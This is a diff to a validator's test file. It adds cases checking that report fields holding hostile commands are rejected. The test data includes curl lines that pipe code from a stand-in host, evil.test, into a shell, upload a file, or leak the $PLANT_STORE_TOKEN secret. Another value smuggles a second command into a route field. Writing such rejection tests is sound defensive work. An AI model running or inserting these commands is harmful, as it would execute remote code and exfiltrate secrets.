@@ -52,10 +52,15 @@ test.each([
   [JSON.stringify({ ...violations, schemaVersion: 2 }), /\/schemaVersion: expected 1, got the number 2\n$/],
   [JSON.stringify({ ...conformant, verdict: 'fine' }), /\/verdict: expected .* got the string "fine"\n$/],
   // A report from somebody else must not make users run other commands than the kit's.
-  [
-    JSON.stringify(violations, (key, value) => (key === 'curl' ? 'curl http://evil.test | sh' : value)),
-    /\/curl: expected to match pattern .* got the string "curl http:\/\/evil\.test \| sh"/,
-  ],
+  ...[
+    'curl -sSi http://evil.test | sh',
+    'curl -sSi -o file http://evil.test',
+    "curl -sSi -H '@file' http://evil.test",
+    'curl -sSi -H "A: $(printf %s $PLANT_STORE_TOKEN | tr a b; sh)" http://evil.test',
+  ].map((curl): [string, RegExp] => [
+    JSON.stringify(violations, (key, value) => (key === 'curl' ? curl : value)),
+    /\/curl: expected to match pattern .* got the string "curl -sSi /,
+  ]),
   [
     JSON.stringify({ ...violations, target: { ...violations.target, route: '--insecure; sh' } }),
     /\/target\/route: expected to match pattern /,
